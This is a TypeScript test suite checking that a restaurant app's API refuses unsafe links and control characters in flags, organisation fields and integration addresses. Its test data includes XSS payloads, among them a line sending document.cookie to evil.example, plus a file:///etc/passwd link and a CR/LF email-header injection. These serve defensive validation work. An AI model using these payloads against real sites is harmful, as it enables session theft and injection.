import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BISTRO } from '../src/demo/index';
import { createTestApp, type TestApp } from './helper';

/**
 * Issue 23: links that cannot run script (flags, the organisation's website, integration addresses) and single-line
 * names without control characters, refused by the shared schemas with field messages, nothing written.
 */
let t: TestApp;
let superUser: string;
let admin: string;

beforeAll(async () => {
  t = await createTestApp();
  superUser = await t.login('super', 1);
  admin = await t.login('admin');
});
afterAll(async () => t.close());

const BAD_LINKS = [
  'javascript:fetch("https://evil.example/?c="+document.cookie)',
  'JavaScript:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  '//evil.example/x',
  'instagram.com/bistro',
];
const WEB_LINK = 'Enter a web address starting with http:// or https://';

describe('link flags', () => {
  const flagRows = () => t.db.selectFrom('custom_flag').selectAll().orderBy('id').execute();

  it.each([
    'instagramLink',
    'facebookLink',
    'tiktokLink',
    'termsAndConditionLink',
    'confidentialityLink',
    'backgroundImageResa',
  ])('%s accepts only http(s) addresses (POST /flags and PATCH /flags/{id})', async (flagName) => {
    const before = await flagRows();
    for (const flagValue of BAD_LINKS) {
      const res = await t.call(superUser, 'POST', '/api/flags', [{ customFlagId: 0, flagName, flagValue }]);
      expect(res.status, flagValue).toBe(400);
      expect(res.body.fieldErrors).toEqual({ '0.flagValue': WEB_LINK });
    }
    expect(await flagRows()).toEqual(before);
    const ok = await t.call(superUser, 'POST', '/api/flags', [
      { customFlagId: 0, flagName, flagValue: 'https://www.instagram.com/bistro' },
    ]);
    expect(ok.status).toBe(200);
    const saved = (ok.body.data as { customFlagId: number; flagName: string }[]).find((f) => f.flagName === flagName)!;
    const patched = await t.call(superUser, 'PATCH', `/api/flags/${saved.customFlagId}`, {
      flagValue: 'data:text/html,<script>alert(1)</script>',
    });
    expect(patched.status).toBe(400);
    expect(patched.body.fieldErrors.flagValue).toBe(WEB_LINK);
    const row = await t.db
      .selectFrom('custom_flag')
      .selectAll()
      .where('id', '=', saved.customFlagId)
      .executeTakeFirst();
    expect(row?.flag_value).toBe('https://www.instagram.com/bistro');
    // Blank still means "none".
    expect((await t.call(superUser, 'PATCH', `/api/flags/${saved.customFlagId}`, { flagValue: '' })).status).toBe(200);
  });

  it('other text flags are not links', async () => {
    const res = await t.call(superUser, 'POST', '/api/flags', [
      { customFlagId: 0, flagName: 'bannerHomeText', flagValue: 'Welcome: open 7/7' },
    ]);
    expect(res.status).toBe(200);
  });
});

describe('organisation', () => {
  const org = () => t.db.selectFrom('organization').selectAll().where('org_id', '=', BISTRO).executeTakeFirstOrThrow();

  it('refuses a name with CR/LF or another control character, and changes nothing', async () => {
    const before = await org();
    for (const name of [
      'Demo\r\nBistro',
      'Demo\nBistro',
      'Demo\rBcc: x@evil.example',
      'Demo\u0000',
      'Demo\u2028Bistro',
      'A\u0085B',
    ]) {
      const res = await t.call(admin, 'PATCH', '/api/org', { name });
      expect(res.status, JSON.stringify(name)).toBe(400);
      expect(res.body.fieldErrors).toEqual({ name: 'Line breaks and control characters are not allowed' });
    }
    expect(await org()).toEqual(before);
    // Surrounding line breaks are trimmed away like spaces; accents are fine.
    const ok = await t.call(admin, 'PATCH', '/api/org', { name: 'Démo Bistro\r\n' });
    expect(ok.status).toBe(200);
    expect((await org()).name).toBe('Démo Bistro');
  });

  it('refuses CR/LF in other single-line fields (VAT number, a printer, a product group), not in the address', async () => {
    // The VAT number is checked as a VAT number (decision 73): a line break makes it one no more.
    const vat = await t.call(admin, 'PATCH', '/api/org', { vatNumber: 'BE0123\r\n456' });
    expect(vat.status).toBe(400);
    expect(Object.keys(vat.body.fieldErrors)).toEqual(['vatNumber']);
    const printer = await t.call(admin, 'POST', '/api/printer', {
      name: 'Bar\nX',
      ipAddress: '10.0.0.5',
      doublePrint: false,
    });
    expect(printer.status).toBe(400);
    expect(printer.body.fieldErrors.name).toBe('Line breaks and control characters are not allowed');
    expect((await t.call(admin, 'PATCH', '/api/org', { address: 'Rue Neuve 1\n1000 Bruxelles' })).status).toBe(200);
  });

  it('refuses a website that is not an http(s) address', async () => {
    const before = await org();
    for (const website of BAD_LINKS) {
      const res = await t.call(admin, 'PATCH', '/api/org', { website });
      expect(res.status, website).toBe(400);
      // A tab inside is refused as a control character first.
      expect([WEB_LINK, 'Line breaks and control characters are not allowed']).toContain(res.body.fieldErrors.website);
    }
    expect(await org()).toEqual(before);
    expect((await t.call(admin, 'PATCH', '/api/org', { website: 'https://bistro.example' })).status).toBe(200);
  });
});

describe('integration addresses', () => {
  it('refuse anything but a host or IP with an optional :port (and /path for a CashDro)', async () => {
    const rows = () => t.db.selectFrom('integration').selectAll().orderBy('id').execute();
    const before = await rows();
    for (const ip of [
      'javascript:alert(1)',
      'http://javascript:alert(1)',
      'data:text/html,x',
      'a b',
      '192.168.1.5\n/x',
    ]) {
      for (const type of ['CASHDRO', 'CCV_OPI']) {
        const res = await t.call(admin, 'POST', '/api/integrations', { type, configJson: JSON.stringify({ ip }) });
        expect(res.status, `${type} ${ip}`).toBe(400);
        expect(res.body.fieldErrors['configJson.ip']).toBe(
          'Enter an IP address or host name, optionally followed by :port',
        );
      }
    }
    expect(await rows()).toEqual(before);
    const cash = await t.call(admin, 'POST', '/api/integrations', {
      type: 'CASHDRO',
      configJson: JSON.stringify({ ip: 'http://cashdro.local:8080/api' }),
    });
    expect(cash.status).toBe(200);
    expect(JSON.parse(cash.body.data.configJson).ip).toBe('http://cashdro.local:8080/api');
    const ccv = await t.call(admin, 'POST', '/api/integrations', {
      type: 'CCV_OPI',
      configJson: JSON.stringify({ ip: '[fd00::30]:4100' }),
    });
    expect(ccv.status).toBe(200);
  });
});
